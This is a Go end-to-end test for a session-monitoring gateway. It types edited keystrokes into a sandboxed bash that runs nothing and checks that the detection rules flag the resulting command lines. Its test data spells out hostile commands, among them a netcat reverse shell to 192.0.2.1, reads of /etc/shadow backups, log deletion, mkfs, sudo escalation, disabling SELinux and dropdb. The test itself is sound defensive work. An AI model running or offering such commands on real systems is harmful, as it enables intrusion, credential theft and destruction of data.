package e2e

import (
	"fmt"
	"image"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/vitrine-psm/vitrine/internal/testbed"
)

// tellingShell is a bash in an xterm that runs nothing of what it is told, and writes down what it would have run: each line as its own history
// has it, after its own editing. Its PATH is empty besides.
const tellingShell = `PATH=
HISTFILE=
HISTCONTROL=ignoreboth
set -o emacs
shopt -s extdebug
__log() { history 1 >> %[1]s; }
PROMPT_COMMAND=__log
trap '[[ $BASH_COMMAND == __log || $BASH_COMMAND == "history 1 >> "* ]]' DEBUG
`

// typist is a viewer at such a shell.
type typist struct {
	*viewer
	log string
	n   int // lines so far, by the shell's count
}

var historyLine = regexp.MustCompile(`(?m)^\s*(\d+)\*?\s\s(.*)$`)

// last is the number and the text of what the shell has taken last.
func (y *typist) last() (int, string) {
	b, _ := os.ReadFile(y.log)
	all := historyLine.FindAllStringSubmatch(string(b), -1)
	if len(all) == 0 {
		return 0, ""
	}
	n, _ := strconv.Atoi(all[len(all)-1][1])
	return n, all[len(all)-1][2]
}

// keys are the names of keys in what typist.types takes.
var keys = map[string]string{
	"Enter": "Enter", "BS": "Backspace", "Del": "Delete", "Left": "ArrowLeft", "Right": "ArrowRight", "Up": "ArrowUp", "Down": "ArrowDown",
	"Home": "Home", "End": "End", "Tab": "Tab", "Esc": "Escape", "LT": "<",
}

// types presses keys: characters, <Name>, and <C-x> or <M-x> with Ctrl or Alt.
func (y *typist) types(text string) {
	y.t.Helper()
	press := func(key string, down ...bool) {
		for _, d := range down {
			y.send("input", map[string]any{"t": "key", "key": key, "code": "", "down": d})
		}
	}
	for text != "" {
		if text[0] != '<' {
			r := []rune(text)[0]
			press(string(r), true, false)
			text = text[len(string(r)):]
			continue
		}
		word, rest, ok := strings.Cut(text[1:], ">")
		require.True(y.t, ok, text)
		text = rest
		mod, key, chord := strings.Cut(word, "-")
		with := map[string]string{"C": "Control", "M": "Alt", "S": "Shift"}[mod]
		if !chord {
			key, with = word, ""
		}
		if with != "" {
			press(with, true)
		}
		if name := keys[key]; name != "" {
			key = name
		}
		press(key, true, false)
		if with != "" {
			press(with, false)
		}
	}
}

// runs types a line and Enter, and returns what the shell would have run.
func (y *typist) runs(text string) string {
	y.t.Helper()
	y.types(text + "<Enter>")
	n, line := 0, ""
	require.Eventually(y.t, func() bool { n, line = y.last(); return n > y.n }, patience, 5*time.Millisecond, "the shell does not take %q", text)
	require.Equal(y.t, y.n+1, n, "the shell has taken more than %q", text)
	y.n = n
	return line
}

// TestStarterRules types into a real xterm and a real bash, with every key by which people edit lines and call them back: the rules Vitrine comes
// with fire on what the shell would run, as its own history says, and on nothing of the sessions of ordinary work in internal/detect/testdata.
func TestStarterRules(t *testing.T) {
	t.Parallel()
	testbed.Require(t, "Xvnc", "xterm")
	dir := t.TempDir()
	log := filepath.Join(dir, "log")
	require.NoError(t, os.WriteFile(filepath.Join(dir, "rc"), fmt.Appendf(nil, tellingShell, log), 0o600))
	x := testbed.StartXvnc(t, testbed.XvncOptions{Size: image.Pt(1024, 768)})
	testbed.XTerm(t, x.Display, "cd "+dir+" && exec bash --noprofile --rcfile rc -i")
	g := startGateway(t, fmt.Sprintf("targets:\n  - {id: desk, protocol: vnc, address: '%s', tls: {mode: 'off'}}\n", x.Addr))
	s := g.connect("desk")
	v := g.watch(s.ID, "control")
	focus(v)
	y := &typist{viewer: v, log: log}
	var typed []string

	// What the shell takes, as it says, and the rule that fits it; no rule: it is only there to be called back.
	wanted := map[string]int{}
	for _, c := range []struct{ what, keys, ran, rule string }{
		{"plain", "./linpeas.sh -a", "./linpeas.sh -a", "attack-tools"},
		{"backspaces", "rm -f /var/log/nothign<BS><BS><BS>ing.log", "rm -f /var/log/nothing.log", "linux-logs"},
		{"cursor keys", "mkfs.ext4 dev/none<Left><Left><Left><Left><Left><Left><Left><Left>/<End>", "mkfs.ext4 /dev/none", "linux-mass-deletion"},
		{"Home and Delete", "xcat /etc/shadow.bak<Home><Del>", "cat /etc/shadow.bak", "linux-credentials"},
		{"words erased", "usermod -aG developers nobody<C-w><C-w>sudo nobody", "usermod -aG sudo nobody", "linux-new-administrator"},
		{"the line killed", "ls -la /tmp<C-u>nc -e /bin/sh 192.0.2.1 4444", "nc -e /bin/sh 192.0.2.1 4444", "linux-remote-shell"},
		{"killed and yanked", "-e<C-u>crontab <C-y>", "crontab -e", "linux-persistence"},
		{"by words, and to the end", "setenforce 17 please<C-a><Esc>f<C-k> 0", "setenforce 0", "linux-defence-off"},
		{"two letters changed over", "dropbd none<Left><Left><Left><Left><Left><Left><C-t>", "dropdb none", "database-deletion"},
		{"to be called back", "ls -l /etc/shadow.old", "ls -l /etc/shadow.old", ""},
		{"history, edited", "<Up><C-a><Esc>dcat", "cat -l /etc/shadow.old", "linux-credentials"},
		{"further back, and forward", "<Up><Up><Up><Down>", "ls -l /etc/shadow.old", ""},
		{"by Ctrl-P", "<C-p><C-p><C-p><C-p>", "dropdb none", "database-deletion"},
		{"the last line", "sudo !!", "sudo dropdb none", "database-deletion"},
		{"a line by its beginning", "!mkfs", "mkfs.ext4 /dev/none", "linux-mass-deletion"},
		{"its last word", "cat /etc/shadow.bak !$", "cat /etc/shadow.bak /dev/none", "linux-credentials"},
		{"changed quickly", "^shadow.bak^hosts", "cat /etc/hosts /dev/none", ""},
		{"searched for", "<C-r>usermod", "usermod -aG sudo nobody", "linux-new-administrator"},
		{"searched for, edited", "<C-r>linpeas<End>x", "./linpeas.sh -ax", "attack-tools"},
		{"the last word of the line before", "echo /etc/gshadow.old", "echo /etc/gshadow.old", "linux-credentials"},
		{"inserted by Alt-.", "cat <Esc>.", "cat /etc/gshadow.old", "linux-credentials"},
	} {
		require.Equal(t, c.ran, y.runs(c.keys), c.what)
		typed = append(typed, c.ran)
		if c.rule != "" {
			wanted[c.rule]++
		}
	}
	// still waits until the picture is, and returns it.
	still := func() *image.RGBA {
		var before *image.RGBA
		require.Eventually(t, func() bool {
			now := x.Screenshot(t)
			same := before != nil && slices.Equal(before.Pix, now.Pix)
			before = now
			return same
		}, patience, 200*time.Millisecond)
		return before
	}
	// Given up. The terminal forgets what comes at the same moment as Ctrl-C.
	still()
	y.types("rm -f /var/log/other.log")
	still()
	y.types("<C-c>")
	still()
	require.Equal(t, "pwd", y.runs("pwd"))
	typed = append(typed, "pwd")
	// Pasted: the rules see half of it on the clipboard and all of it in the line.
	v.send("clipboard", map[string]any{"t": "clip", "id": 1, "part": 0, "parts": 1, "text": "-f /var/log/pasted.log"})
	y.types("rm ")
	before := still()
	v.send("input", map[string]any{"t": "key", "key": "Shift", "code": "ShiftLeft", "down": true})
	v.send("input", map[string]any{"t": "key", "key": "Insert", "code": "Insert", "down": true})
	v.send("input", map[string]any{"t": "key", "key": "Insert", "code": "Insert", "down": false})
	v.send("input", map[string]any{"t": "key", "key": "Shift", "code": "ShiftLeft", "down": false})
	require.Eventually(t, func() bool { return !slices.Equal(before.Pix, x.Screenshot(t).Pix) }, patience, 50*time.Millisecond, "nothing is pasted")
	require.Equal(t, "rm -f /var/log/pasted.log", y.runs(""))
	typed = append(typed, "rm -f /var/log/pasted.log")
	wanted["linux-logs"]++
	// What only the shell knows: the rest of a word. The line says that it is not whole, and no rule can fit what no key says.
	require.Equal(t, "cat /etc/shells", y.runs("cat /etc/shel<Tab><BS>"))
	typed = append(typed, "cat /etc/she")

	dangerous := len(typed)
	names, err := filepath.Glob("../detect/testdata/benign/linux*.txt")
	require.NoError(t, err)
	require.Greater(t, len(names), 3)
	for _, name := range names {
		b, err := os.ReadFile(name)
		require.NoError(t, err)
		for line := range strings.Lines(string(b)) {
			if line = strings.TrimSuffix(line, "\n"); line != "" && !strings.HasPrefix(line, "# ") {
				require.Equal(t, line, y.runs(strings.ReplaceAll(line, "<", "<LT>")))
				typed = append(typed, line)
			}
		}
	}
	require.Greater(t, len(typed)-dangerous, 300)
	g.call("POST", "/sessions/"+s.ID+"/terminate", nil, 204, nil)
	g.ended(s.ID, 15*time.Second)
	g.sealed(s.ID, 30*time.Second)

	// The recording's lines are the shell's, and the alerts are those of the lines.
	var lines []string
	found := map[string]int{}
	incomplete := 0
	for _, e := range g.events(s.ID) {
		switch e["kind"] {
		case "line":
			if e["ended"] == "enter" {
				lines = append(lines, fmt.Sprint(e["text"]))
				if e["certainty"] == "incomplete" {
					incomplete++
				}
			}
		case "alert":
			n, _ := e["count"].(float64)
			found[fmt.Sprint(e["rule"])] += max(int(n), 1)
		}
	}
	require.Equal(t, typed, lines)
	require.Equal(t, wanted, found)
	require.Equal(t, 1, incomplete, "the word that the shell completed")
}
